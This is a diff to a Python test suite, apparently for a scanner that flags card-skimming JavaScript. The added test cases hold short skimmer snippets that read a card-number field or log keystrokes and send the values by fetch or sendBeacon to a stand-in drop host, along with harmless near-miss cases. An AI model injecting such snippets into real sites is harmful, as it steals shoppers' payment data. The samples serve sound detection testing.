@@ -162,6 +162,15 @@ FLOWS = {
         f"  U.post = function (d) {{ var x = new XMLHttpRequest(); x.open('POST', '{DROP}');"
         " x.send(d); };\n  return U; })();\n"
         "(function (U) { U.post(U.val(U.qs('#cc_number'))); })(window.Lib);"),
+    "staged in the window's name": (
+        "window.name = document.querySelector('#cc_number').value;\n"
+        f"fetch('{DROP}', {{method: 'POST', body: top.name}});"),
+    "keyed by the field's name": (
+        "var el = document.querySelector('#cc_number'); var o = {};\n"
+        f"o[el.name] = el.value; navigator.sendBeacon('{DROP}', JSON.stringify(o));"),
+    "through a static method of the script's class": (
+        "class U { static v(el) { return el.value; } }\n"
+        f"navigator.sendBeacon('{DROP}', U.v(document.querySelector('#cc_number')));"),
     "form sweep": f"var d = [];\n"
                   f"document.querySelectorAll('input, select').forEach(function (i) "
                   f"{{ d.push(i.value); }});\n"
@@ -186,6 +195,15 @@ NO_FLOWS = {
                           "return e.type + ':' + e.id + ':' + e.autocomplete; });\n"
                           f"navigator.sendBeacon('{DROP}', JSON.stringify("
                           "{e: empty, k: kinds, t: f.elements[0].tagName}));",
+    "a field's name and attributes": (
+        "var el = document.querySelector('#cc_number');\n"
+        f"navigator.sendBeacon('{DROP}', JSON.stringify({{n: el.name, "
+        "a: el.getAttribute('autocomplete'), r: el.hasAttribute('required'), "
+        "l: el.textContent}));"),
+    "a static describer of the script's class": (
+        "class D { static describe(el) { return {tag: el.tagName.toLowerCase(), n: el.name}; } }\n"
+        f"navigator.sendBeacon('{DROP}', "
+        "JSON.stringify(D.describe(document.querySelector('#cc_number'))));"),
     "unrelated data": f"var v = document.querySelector('#cc-number');\n"
                       f"fetch('{DROP}', {{method: 'POST', body: JSON.stringify({{page: 1}})}});",
     "same name, other function": "function a() { var e = document.querySelector('#cc_cvv').value;"
@@ -291,6 +309,26 @@ def test_listener_events_from_a_list(analyze) -> None:  # type: ignore[no-untype
                      f"navigator.sendBeacon('{DROP}', e.target.value); }}); }});")
     found = findings_of(report, "card-keylogger")
     assert found and found[0].evidence["host"] == "metrics-drop.top", report.findings
+
+
+@pytest.mark.parametrize("guard, targets", [
+    ("if (!CARD.test(k)) return;", True),  # goes on with card fields only
+    ("if (CARD.test(k)) { grab(e.target); }", True),
+    ("if (CARD.test(k)) return;", False),  # leaves card fields alone
+    ("if (!ADDRESS.test(k) || CARD.test(k)) return;", False),
+    ("if (ADDRESS.test(k) && !CARD.test(k)) { grab(e.target); }", False),
+])
+def test_card_pattern_polarity(guard: str, targets: bool, analyze) -> None:  # type: ignore[no-untyped-def]
+    """A card-field regex finds the fields a script targets — or the ones it leaves alone (an
+    address lookup, a search box): what a match does decides which."""
+    report = analyze(
+        "var CARD = /cc[-_]|card|cvv|cvc|csc|exp/i, ADDRESS = /street|address/i;\n"
+        "function grab(el) { fetch('" + DROP + "?q=' + encodeURIComponent(el.value)); }\n"
+        "document.addEventListener('input', function (e) {\n"
+        "  var k = e.target.name + ' ' + e.target.id;\n"
+        f"  {guard}\n"
+        "  grab(e.target); });")
+    assert bool(findings_of(report, "card-keylogger")) is targets, report.findings
 
 
 @pytest.mark.parametrize("call, reads_form", [
